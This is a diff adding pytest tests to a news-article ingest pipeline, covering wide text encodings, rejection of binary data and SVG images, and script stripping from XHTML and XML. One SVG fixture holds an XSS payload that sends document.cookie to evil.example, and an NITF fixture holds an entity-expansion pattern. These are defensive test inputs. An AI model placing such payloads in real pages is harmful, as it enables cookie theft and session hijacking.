@@ -6,10 +6,12 @@ import random
 
 import pytest
 
+from ingest_worker.pipeline import build_pipeline
 from ingest_worker.pipeline.base import Article, Reject, StageContext
 from ingest_worker.pipeline.decode import Decode
 from ingest_worker.pipeline.detect import DetectFormat
 from ingest_worker.pipeline.normalise import Normalise, content_hash, normalise_text
+from ingest_worker.pipeline.profiles import MemorySourceProfiles
 
 CTX = StageContext(dedup_enabled=False)
 
@@ -104,3 +106,171 @@ def test_a_document_with_no_body_left_is_rejected() -> None:
 def test_a_repeated_byte_pattern_is_not_readable_text() -> None:
     with pytest.raises(Reject, match="readable"):
         _decoded(bytes([0xBC, 0xBC]) * 2000)
+
+
+ARTICLE = """Harbour authorities in Valletta said on Tuesday that the new container terminal would \
+open in March, two months later than planned, after storms damaged the northern breakwater.
+
+The 180-million-euro terminal is meant to double the port's capacity and draw transshipment traffic \
+away from larger hubs in the western Mediterranean, the authority's chief executive told reporters.
+
+Shipping lines that had booked berths for January were offered slots at the old terminal at no \
+extra charge, according to a statement published on the authority's website."""
+
+RUSSIAN_ARTICLE = """Правительство одобрило законопроект о налоге на сверхприбыль, который вступит в силу \
+в начале следующего года, сообщил министр финансов во вторник.
+
+По его словам, новые поступления в бюджет составят около трёхсот миллиардов рублей в год."""
+
+
+def _run(raw: bytes, **kwargs: str) -> Article:
+    ctx = StageContext(source_profiles=MemorySourceProfiles(), dedup_enabled=False)
+    return build_pipeline().run(Article(raw=raw, **kwargs), ctx)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+@pytest.mark.parametrize("text", [ARTICLE, RUSSIAN_ARTICLE], ids=["english", "russian"])
+def test_utf16_without_a_byte_order_mark_is_decoded(text: str, encoding: str) -> None:
+    doc = _decoded(text.encode(encoding))
+    assert doc.encoding == encoding
+    assert doc.text == text
+
+
+@pytest.mark.parametrize("encoding", ["utf-32-le", "utf-32-be"])
+def test_utf32_with_a_byte_order_mark_is_decoded(encoding: str) -> None:
+    bom = b"\xff\xfe\x00\x00" if encoding.endswith("le") else b"\x00\x00\xfe\xff"
+    doc = _decoded(bom + RUSSIAN_ARTICLE.encode(encoding))
+    assert doc.encoding == encoding
+    assert doc.text == RUSSIAN_ARTICLE
+
+
+def test_utf32_without_a_byte_order_mark_is_decoded() -> None:
+    doc = _decoded(ARTICLE.encode("utf-32-be"))
+    assert doc.encoding == "utf-32-be"
+    assert doc.text == ARTICLE
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
+def test_text_with_scattered_nul_bytes_is_decoded_without_them(encoding: str) -> None:
+    text = ARTICLE.replace("terminal", "términal")
+    noisy = bytearray(text.encode(encoding))
+    for spot in sorted(random.Random(7).sample(range(len(noisy)), 40), reverse=True):
+        noisy.insert(spot, 0)
+    doc = _decoded(bytes(noisy))
+    assert doc.text == text
+
+
+def test_a_whole_article_in_utf16_becomes_a_record_text() -> None:
+    doc = _run(ARTICLE.encode("utf-16-le"), filename="story.txt")
+    assert "Valletta" in doc.body and "\x00" not in doc.body
+
+
+def _noise(seed: int, size: int) -> bytes:
+    rng = random.Random(seed)
+    return bytes(rng.randrange(256) for _ in range(size))
+
+
+@pytest.mark.parametrize(
+    ("raw", "reason"),
+    [
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _noise(1, 3000), "PNG"),
+        (_noise(2, 4000), "not an article|undecodable|readable"),
+        (bytes(random.Random(3).choice([0, 1, 2, 3, 7, 255]) for _ in range(4000)), "binary"),
+        (b"\x00\x00\x00\x18ftypmp42" + _noise(4, 3000), "binary"),
+        (b"".join(i.to_bytes(2, "little") for i in range(3000)), "binary|undecodable|readable"),
+    ],
+    ids=["png", "random-bytes", "controls", "mp4", "uint16-counter"],
+)
+def test_binary_data_is_still_rejected_next_to_the_wide_encodings(raw: bytes, reason: str) -> None:
+    with pytest.raises(Reject, match=reason):
+        _decoded(raw)
+
+
+SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
+  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
+  <title>Chart of port traffic</title>
+  <text x="10" y="20">Harbour traffic rose by ten per cent in the last year, officials said.</text>
+  <p>Some paragraph text that looks like an article. <div>And a div.</div></p>
+</svg>
+"""
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [{}, {"filename": "chart.svg"}, {"filename": "chart.txt"}, {"declared_content_type": "text/plain"}],
+    ids=["no-name", "svg-name", "txt-name", "declared-text"],
+)
+def test_an_svg_image_is_rejected_as_not_an_article(kwargs: dict[str, str]) -> None:
+    with pytest.raises(Reject, match="not an article: SVG image"):
+        _decoded(SVG, **kwargs)
+
+
+def test_an_svg_without_an_xml_declaration_or_in_utf16_is_rejected_too() -> None:
+    bare = SVG.split(b"\n", 2)[2]
+    with pytest.raises(Reject, match="SVG image"):
+        _decoded(bare)
+    with pytest.raises(Reject, match="SVG image"):
+        _decoded(SVG.decode().encode("utf-16"))
+
+
+def test_an_svg_declared_as_svg_is_rejected_whatever_it_holds() -> None:
+    with pytest.raises(Reject, match="SVG image"):
+        _decoded(ARTICLE.encode(), declared_content_type="image/svg+xml")
+
+
+def test_an_html_page_with_inline_svg_is_still_an_html_page() -> None:
+    page = f"<!doctype html><html><body><svg><circle r='1'/></svg><p>{ARTICLE}</p></body></html>"
+    assert _decoded(page.encode()).content_type == "text/html"
+
+
+XHTML = f"""<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
+<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Terminal delayed</title>
+<script type="text/javascript">document.write('tracking pixel');</script></head>
+<body><article>{"".join(f"<p>{p}</p>" for p in ARTICLE.split(chr(10) + chr(10)))}</article></body></html>
+"""
+
+
+def test_xhtml_takes_the_html_path_and_its_script_never_reaches_the_text() -> None:
+    doc = _decoded(XHTML.encode(), filename="story.xml")
+    assert doc.content_type == "text/html"
+    doc = _run(XHTML.encode(), filename="story.xml")
+    assert "Valletta" in doc.body
+    assert "tracking" not in doc.body and "<" not in doc.body
+
+
+NITF = f"""<?xml version="1.0" encoding="ISO-8859-1"?>
+<!DOCTYPE nitf [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
+<nitf><head><title>Terminal delayed</title>
+<script>alert('x')</script></head>
+<body><body.head><hedline><hl1>Valletta terminal opening delayed</hl1></hedline></body.head>
+<body.content>{"".join(f"<p>{p}</p>" for p in ARTICLE.split(chr(10) + chr(10)))}
+<p>Caf\u00e9 owners near the port <em>welcomed</em> the delay &amp; the calm, &lol2;</p>
+</body.content></body></nitf>
+"""
+
+
+def test_other_xml_becomes_text_without_its_tags_or_scripts() -> None:
+    doc = _decoded(NITF.encode("latin-1"), filename="story.xml")
+    assert doc.content_type == "text/plain"
+    assert doc.encoding == "iso-8859-1"
+    text = doc.text or ""
+    assert "<" not in text and "alert" not in text and "&lol" not in text
+    assert "Valletta terminal opening delayed" in text
+    assert "Café owners near the port welcomed the delay & the calm," in text
+    assert ARTICLE.split("\n\n")[1].replace("\n", " ") in text
+    doc = _run(NITF.encode("latin-1"))
+    assert "Valletta" in doc.body and "<" not in doc.body
+
+
+def test_a_news_feed_is_rejected_as_not_an_article() -> None:
+    rss = b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>A</title></item></channel></rss>'
+    with pytest.raises(Reject, match="not an article: RSS feed"):
+        _decoded(rss)
+
+
+def test_xml_with_no_text_is_rejected() -> None:
+    with pytest.raises(Reject):
+        _decoded(b'<?xml version="1.0"?><config><entry key="a" value="b"/><entry key="c"/></config>')
